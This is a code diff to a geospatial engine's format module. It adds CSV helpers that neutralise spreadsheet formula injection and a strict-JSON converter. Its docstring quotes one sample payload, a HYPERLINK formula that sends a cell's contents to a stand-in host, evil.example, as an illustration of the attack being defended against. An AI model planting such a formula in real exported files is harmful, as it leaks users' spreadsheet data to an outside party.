@@ -1,23 +1,30 @@
-"""The one format table: each kind of file the engine reads or writes, with its label, file name endings and
-driver. Every suffix list (the rasters a folder holds, the vector layers read as labels, the models a run takes,
-the outputs' formats) and every file filter a front end shows is derived from it, and ``engine.api`` hands it on.
-
-The first suffix of a format is the one to suggest. ``driver`` is the GDAL/OGR driver that writes it (None: GDAL
-reads several, or it is no GDAL file).
+"""The one format table: each kind of file the engine reads or writes; every suffix list and file filter a front end
+shows is derived from it. And the text of every table written: CSV (:func:`csv_text`), its cells neutralised against
+formula injection (a spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+as a formula, so a class named ``=HYPERLINK("http://evil.example/?x="&A1,"c")`` would leak the sheet: such text
+gets a leading ``'``, OWASP's advice; numbers such as ``-0.5`` stay numbers), and strict JSON (:func:`json_safe`).
 """
 
 from __future__ import annotations
 
+import csv
+import io
+import math
 import os
+from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
+from typing import Any
+
+import numpy as np
 
 from . import locations
 
 
 @dataclass(frozen=True)
 class Format:
-    """A kind of file: ``key``, ``label`` (how messages and file dialogs name it: "GeoTIFF"), ``article`` (the
-    label in a sentence: "a GeoTIFF"), ``suffixes`` (lower case, the first to suggest) and ``driver``."""
+    """A kind of file: ``label`` (how messages and file dialogs name it: "GeoTIFF"), ``article`` (in a sentence:
+    "a GeoTIFF"), ``suffixes`` (lower case, the first to suggest) and ``driver`` (the GDAL/OGR driver that writes
+    it; None: GDAL reads several, or it is no GDAL file)."""
 
     key: str
     label: str
@@ -62,6 +69,47 @@ MODEL_FILTER = ";;".join(f.file_filter() for f in (MODEL, BUNDLE, ONNX))
 
 
 def is_vector_path(path: str | os.PathLike) -> bool:
-    """True for the vector formats accepted as labels / AOIs (by file suffix; ``file.gpkg|layername=NAME`` and
-    a GeoJSON URL count)."""
+    """True for the vector formats accepted as labels / AOIs (:data:`VECTOR_SUFFIXES`)."""
     return VECTOR.matches(path)
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: Any) -> Any:
+    """``value`` for a CSV cell: text that a spreadsheet would run as a formula gets a leading ``'``."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    try:
+        number = float(value)
+    except ValueError:
+        return "'" + value
+    return value if math.isfinite(number) or value.strip().lstrip("+-").lower() in ("inf", "nan") else "'" + value
+
+
+def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
+    """A CSV document (``\\n`` line ends), every cell through :func:`safe_cell`."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([safe_cell(v) for v in header])
+    writer.writerows([safe_cell(v) for v in row] for row in rows)
+    return buffer.getvalue()
+
+
+def dict_csv_text(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> str:
+    """:func:`csv_text` of mappings (missing keys give empty cells)."""
+    return csv_text(columns, ([row.get(k, "") for k in columns] for row in rows))
+
+
+def json_safe(value: Any) -> Any:
+    """``value`` as strict JSON takes it, dicts and lists walked: NaN and infinities become None (the per-class
+    metrics hold NaN for classes absent from validation), numpy scalars Python numbers, tuples lists."""
+    if isinstance(value, np.generic):
+        value = value.item()
+    if isinstance(value, float):
+        return value if math.isfinite(value) else None
+    if isinstance(value, dict):
+        return {k: json_safe(v) for k, v in value.items()}
+    if isinstance(value, (list, tuple)):
+        return [json_safe(v) for v in value]
+    return value
